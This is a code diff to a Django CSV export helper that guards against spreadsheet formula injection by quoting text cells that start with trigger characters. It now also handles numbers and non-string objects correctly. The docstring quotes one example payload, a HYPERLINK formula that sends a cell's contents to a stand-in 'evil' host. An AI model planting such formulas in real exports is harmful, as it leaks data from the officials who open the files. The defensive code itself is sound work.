@@ -3,7 +3,10 @@
 A spreadsheet program runs a text cell that starts with =, +, -, @, a tab or a carriage return as a
 formula, so a title such as `=HYPERLINK("http://evil/?"&A1)` typed by anyone would run on the
 computer of the official who opens an export. Such text cells are written with a leading single
-quote. Numbers are written as they are (a negative number is not a formula).
+quote. Numbers the platform writes as numbers (int, float, Decimal) are written as they are: a
+measured -5 is a number, not a formula, and stays one for whoever sums the column. Text is text even
+when it looks like a number ("-5" typed in a title is quoted). Anything else (a model, a lazy
+translation) is written as its text, so it is checked as text.
 
 The quoting can be undone exactly (`unquote`), so files exported in an import format import again
 unchanged: text that already starts with quotes before a trigger gets one more.
@@ -11,6 +14,7 @@ unchanged: text that already starts with quotes before a trigger gets one more.
 
 import csv
 from collections.abc import Iterable
+from numbers import Number
 from typing import Any
 
 from django.http import HttpResponse, StreamingHttpResponse
@@ -21,8 +25,11 @@ BOM = "\ufeff"  # spreadsheet programs read the file as UTF-8 only with it
 
 def neutralise(value: Any) -> Any:
     """The cell as written: text a spreadsheet would run as a formula gets a leading quote."""
-    if isinstance(value, str) and value.lstrip("'").startswith(TRIGGERS):
-        return "'" + value
+    if value is None or isinstance(value, Number):  # Decimal and numpy's numbers are Numbers too
+        return value
+    text = str(value)  # what the csv module would write
+    if text.lstrip("'").startswith(TRIGGERS):
+        return "'" + text
     return value
 
 
